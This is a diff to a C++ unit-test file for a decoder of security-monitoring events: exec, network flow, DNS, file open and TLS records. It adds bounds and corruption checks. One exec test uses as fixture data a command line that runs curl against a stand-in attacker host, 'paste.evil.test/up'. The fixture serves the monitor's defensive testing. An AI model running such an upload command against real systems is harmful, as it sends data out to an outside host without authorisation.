@@ -171,7 +171,7 @@ TEST(DecodeTest, RejectsEmptyAndShorterThanHeader) {
 }
 
 TEST(DecodeTest, RejectsUnknownTypesNamingTheType) {
-  for (uint32_t type : {0u, 5u, 99u, 0xffffffffu}) {
+  for (uint32_t type : {0u, static_cast<uint32_t>(SLUICE_EV_TYPE_MAX), 99u, 0xffffffffu}) {
     auto bytes = Bytes(RawHeader(type, sizeof(sluice_event_header)));
     auto decoded = Decode(bytes);
     EXPECT_EQ(decoded.status().code(), absl::StatusCode::kInvalidArgument);
@@ -198,7 +198,7 @@ TEST(DecodeTest, RejectsSizeOtherThanTheStructSize) {
   raw.hdr.size = sizeof(sluice_event_header);
   auto decoded = Decode(Bytes(raw));
   EXPECT_EQ(decoded.status().code(), absl::StatusCode::kInvalidArgument);
-  EXPECT_THAT(decoded.status().message(), HasSubstr("expected 328"));
+  EXPECT_THAT(decoded.status().message(), HasSubstr("expected " + std::to_string(sizeof(sluice_exec_event))));
 
   // Larger than the struct (another ABI version), record long enough to hold it.
   sluice_exit_event exit_raw{};
@@ -257,6 +257,103 @@ TEST(DecodeTest, RandomBytesNeverCrash) {
     }
   }
   EXPECT_GT(accepted, 0u);  // the generator does reach the per-type decoders
+}
+
+TEST(DecodeTest, ExecCarriesArgvPrefix) {
+  auto raw = RawExec();
+  const char args[] = "curl\0-sS\0https://paste.evil.test/up";
+  std::memcpy(raw.args, args, sizeof(args) - 1);
+  raw.args_len = sizeof(args) - 1;
+  raw.args_total = 200;
+  auto decoded = Decode(Bytes(raw));
+  ASSERT_TRUE(decoded.ok()) << decoded.status();
+  const auto& e = std::get<ExecEvent>(*decoded);
+  EXPECT_THAT(e.argv, ::testing::ElementsAre("curl", "-sS", "https://paste.evil.test/up"));
+  EXPECT_TRUE(e.argv_truncated);
+}
+
+TEST(DecodeTest, ExecArgsLenBeyondTheFieldIsBounded) {
+  auto raw = RawExec();
+  std::memset(raw.args, 'a', sizeof(raw.args));
+  raw.args_len = 0xffffffffu;
+  auto decoded = Decode(Bytes(raw));
+  ASSERT_TRUE(decoded.ok());
+  const auto& e = std::get<ExecEvent>(*decoded);
+  ASSERT_EQ(e.argv.size(), 1u);
+  EXPECT_EQ(e.argv[0].size(), sizeof(raw.args));
+}
+
+TEST(DecodeTest, FlowEvent) {
+  sluice_flow_event raw{};
+  raw.hdr = RawHeader(SLUICE_EV_FLOW, sizeof(raw));
+  raw.cookie = 99;
+  raw.kind = SLUICE_FLOW_CLOSED;
+  raw.flow.bytes_out = 12345;
+  raw.flow.bytes_in = 678;
+  raw.flow.dport = 443;
+  raw.flow.protocol = 6;
+  raw.flow.flags = SLUICE_FLOW_F_CLOSED;
+  raw.flow.daddr[15] = 9;
+  auto decoded = Decode(Bytes(raw));
+  ASSERT_TRUE(decoded.ok()) << decoded.status();
+  const auto& e = std::get<FlowEvent>(*decoded);
+  EXPECT_EQ(e.cookie, 99u);
+  EXPECT_EQ(e.kind, static_cast<uint32_t>(SLUICE_FLOW_CLOSED));
+  EXPECT_EQ(e.flow.bytes_out, 12345u);
+  EXPECT_EQ(e.flow.bytes_in, 678u);
+  EXPECT_EQ(e.flow.dport, 443);
+  EXPECT_EQ(e.flow.daddr[15], 9);
+}
+
+TEST(DecodeTest, DnsPayloadIsBoundedByTheField) {
+  sluice_dns_event raw{};
+  raw.hdr = RawHeader(SLUICE_EV_DNS, sizeof(raw));
+  raw.len = 0xffff;  // corrupt: more than the payload field
+  auto decoded = Decode(Bytes(raw));
+  ASSERT_TRUE(decoded.ok());
+  EXPECT_EQ(std::get<DnsEvent>(*decoded).payload.size(), sizeof(raw.payload));
+}
+
+TEST(DecodeTest, FileOpenEvent) {
+  sluice_file_open_event raw{};
+  raw.hdr = RawHeader(SLUICE_EV_FILE_OPEN, sizeof(raw));
+  raw.ino = 77;
+  raw.dev = 2049;
+  raw.fd = 3;
+  raw.class_id = 2;
+  raw.matched_by = SLUICE_FILE_MATCH_INODE;
+  std::strcpy(raw.path, "/var/cache/llm/kv.bin");
+  auto decoded = Decode(Bytes(raw));
+  ASSERT_TRUE(decoded.ok());
+  const auto& e = std::get<FileOpenEvent>(*decoded);
+  EXPECT_EQ(e.path, "/var/cache/llm/kv.bin");
+  EXPECT_EQ(e.ino, 77u);
+  EXPECT_EQ(e.matched_by, static_cast<uint32_t>(SLUICE_FILE_MATCH_INODE));
+}
+
+TEST(DecodeTest, TlsRecordIsVariableSized) {
+  std::vector<uint8_t> rec(SLUICE_TLS_EVENT_HEADER_SIZE + 5);
+  sluice_tls_event head{};
+  head.hdr = RawHeader(SLUICE_EV_TLS, static_cast<uint32_t>(rec.size()));
+  head.captured = 5;
+  head.len = 1000;
+  head.direction = SLUICE_TLS_DIR_WRITE;
+  std::memcpy(rec.data(), &head, SLUICE_TLS_EVENT_HEADER_SIZE);
+  std::memcpy(rec.data() + SLUICE_TLS_EVENT_HEADER_SIZE, "GET /", 5);
+  auto decoded = Decode(rec);
+  ASSERT_TRUE(decoded.ok()) << decoded.status();
+  const auto& e = std::get<TlsEvent>(*decoded);
+  EXPECT_EQ(e.len, 1000u);
+  EXPECT_EQ(std::string(e.data.begin(), e.data.end()), "GET /");
+
+  // A captured count that disagrees with the record size is rejected.
+  head.captured = 4000;
+  std::memcpy(rec.data(), &head, SLUICE_TLS_EVENT_HEADER_SIZE);
+  EXPECT_FALSE(Decode(rec).ok());
+  // Shorter than the fixed part.
+  head.hdr.size = 40;
+  std::memcpy(rec.data(), &head, SLUICE_TLS_EVENT_HEADER_SIZE);
+  EXPECT_FALSE(Decode(rec).ok());
 }
 
 }  // namespace
